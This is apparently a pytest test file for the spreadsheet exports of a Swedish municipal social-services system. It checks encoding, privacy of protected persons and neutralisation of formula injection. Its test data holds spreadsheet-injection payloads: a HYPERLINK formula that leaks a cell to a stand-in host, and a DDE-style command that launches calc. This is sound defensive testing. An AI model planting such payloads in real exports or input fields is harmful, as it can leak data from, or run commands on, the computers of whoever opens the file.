"""Exports open in a spreadsheet: CSV (UTF-8 with BOM, semicolons) and XLSX (openpyxl); never an address."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest

from samverkan.disclosures.models import AuditEntry
from tests.reports.conftest import MONDAY, at, make_person

pytestmark = pytest.mark.django_db


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, so Excel reads å, ä and ö"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def streamed(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_log_search_exports_to_csv_without_addresses_or_a_protected_persons_unit(
    client_for: Any, lookup: Any, user_named: Any
) -> None:
    open_person = make_person("Åsa", "Öberg", street="Ängsvägen 99")
    hidden = make_person("Vera", "Skog", protected=True)
    lookup(user_named("sara.lind"), open_person, at(MONDAY, 9))
    lookup(user_named("sara.lind"), hidden, at(MONDAY, 10))
    response = client_for("lars.ek").post(
        "/uppfoljning/logggranskning/sok/export.csv",
        {"start": "2025-03-03", "end": "2025-03-09", "event_group": "lookup"},
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    content = streamed(response)
    rows = read_csv(content)
    header, body = rows[0], rows[1:]
    assert header[:4] == ["Löpnummer", "Tidpunkt", "Händelse", "Handläggare"]
    by_person = {row[header.index("Person")]: row for row in body}
    assert set(by_person) == {"Åsa Öberg", "Vera Skog"}
    assert by_person["Åsa Öberg"][header.index("Handläggarens enhet")] == "Ekonomiskt bistånd"
    assert by_person["Vera Skog"][header.index("Handläggarens enhet")] == ""
    assert by_person["Vera Skog"][header.index("Skyddade personuppgifter")] == "Ja"
    assert by_person["Åsa Öberg"][header.index("Tidpunkt")] == "2025-03-03 09:00:00"
    assert "Ängsvägen" not in content.decode("utf-8-sig")
    assert AuditEntry.objects.filter(event="logreview.exported", actor=user_named("lars.ek")).exists()


def test_a_report_exports_its_findings_to_csv(client_for: Any, lookup: Any, user_named: Any) -> None:
    hidden = make_person("Vera", "Skog", protected=True)
    lookup(user_named("sara.lind"), hidden, at(MONDAY, 10))
    response = client_for("lars.ek").post(
        "/uppfoljning/logggranskning/rapport/protected_identity/export.csv",
        {"start": "2025-03-03", "end": "2025-03-09"},
    )
    rows = read_csv(response.content)
    assert rows[0][0] == "Rapport" and len(rows) == 2
    assert rows[1][0] == "Slagning på person med skyddade personuppgifter"
    assert rows[1][rows[0].index("Person")] == "Vera Skog" and rows[1][rows[0].index("Granskad")] == "Nej"


def test_statistics_export_to_xlsx_has_one_sheet_per_section_with_every_month(client_for: Any) -> None:
    response = client_for("eva.berg").get("/uppfoljning/statistik/export.xlsx", {"start": "2025-01", "end": "2025-03"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == [
        "Slagningar",
        "Grund",
        "Samtycken",
        "Frågor och svarstid",
        "Återkopplingar",
        "Avstämningsmöten",
        "Första rehabplan",
        "Återsökning",
        "Per enhet",
    ]
    sheet = book["Samtycken"]
    values = [row for row in sheet.iter_rows(values_only=True)]
    header_at = next(i for i, row in enumerate(values) if row and row[0] == "Månad")
    assert values[header_at] == ("Månad", "Lämnade samtycken", "Återkallade samtycken")
    assert [row[0] for row in values[header_at + 1 :]] == ["jan 2025", "feb 2025", "mar 2025", "Hela perioden"]
    units = [row[0] for row in book["Per enhet"].iter_rows(min_row=2, values_only=True)]
    assert units == ["Ekonomiskt bistånd", "Socialförvaltningens stab"]


def test_statistics_export_to_csv_parses_with_one_row_per_figure(client_for: Any) -> None:
    response = client_for("eva.berg").get("/uppfoljning/statistik/export.csv", {"start": "2025-01", "end": "2025-02"})
    rows = read_csv(response.content)
    assert rows[0] == ["Område", "Enhet", "Avsnitt", "Månad", "Mått", "Värde"]
    consents = [r for r in rows[1:] if r[2] == "Samtycken"]
    assert [(r[3], r[4]) for r in consents] == [
        ("jan 2025", "Lämnade samtycken"),
        ("jan 2025", "Återkallade samtycken"),
        ("feb 2025", "Lämnade samtycken"),
        ("feb 2025", "Återkallade samtycken"),
        ("Hela perioden", "Lämnade samtycken"),
        ("Hela perioden", "Återkallade samtycken"),
    ]
    assert all(r[0] == "Socialnämnden i Sörby kommun" and r[1] == "Alla enheter" for r in rows[1:])


def test_an_unknown_export_format_is_not_found(client_for: Any) -> None:
    assert client_for("eva.berg").get("/uppfoljning/statistik/export.pdf").status_code == 404


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://example.invalid/?x="&A1;"klicka")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\tTAB",
        "\r=1",
    ],
)
def test_a_typed_text_that_a_spreadsheet_would_run_is_exported_as_inert_text(typed: str) -> None:
    from samverkan.reports.exports import csv_text, neutralise

    assert neutralise(typed) == "'" + typed
    [row] = list(csv.reader(io.StringIO(csv_text(["Ändamål"], [[typed]]).lstrip("\ufeff"))))[1:]
    assert row == ["'" + typed]


@pytest.mark.parametrize("number", ["-1200", "-1 200,50", "12,50", 42, -3])
def test_numbers_stay_numbers_in_exports(number: Any) -> None:
    from samverkan.reports.exports import neutralise

    assert neutralise(number) == number


def test_the_log_search_export_neutralises_a_formula_typed_into_the_purpose(
    client_for: Any, user_named: Any, world: None
) -> None:
    from samverkan.accounts.models import Organisation
    from samverkan.core import clock
    from samverkan.disclosures.audit import audit_append

    person = make_person("Åsa", "Öberg")
    official = user_named("sara.lind")
    with clock.pinned(at(MONDAY, 9), ticking=False):
        audit_append(
            event="disclosure.released",
            actor=official,
            organisation=Organisation.objects.get(code="fk"),
            recipient=official.organisation,
            person=person,
            categories=["identity"],
            basis="duty",
            purpose='=HYPERLINK("https://example.invalid","Öppna")',
            extra={},
        )
    response = client_for("lars.ek").post(
        "/uppfoljning/logggranskning/sok/export.csv", {"start": "2025-03-03", "end": "2025-03-09"}
    )
    rows = read_csv(streamed(response))
    purposes = [row[rows[0].index("Ändamål")] for row in rows[1:]]
    assert '\'=HYPERLINK("https://example.invalid","Öppna")' in purposes
    assert not any(p.startswith(("=", "+", "-", "@")) for p in purposes)


def test_an_xlsx_export_never_holds_a_formula_from_a_unit_name(client_for: Any, user_named: Any) -> None:
    from samverkan.accounts.models import Unit

    unit = user_named("sara.lind").unit
    Unit.objects.filter(pk=unit.pk).update(name="=1+2 Ekonomiskt bistånd")
    response = client_for("eva.berg").get("/uppfoljning/statistik/export.xlsx", {"start": "2025-01", "end": "2025-03"})
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert "'=1+2 Ekonomiskt bistånd" in [c.value for c in cells]
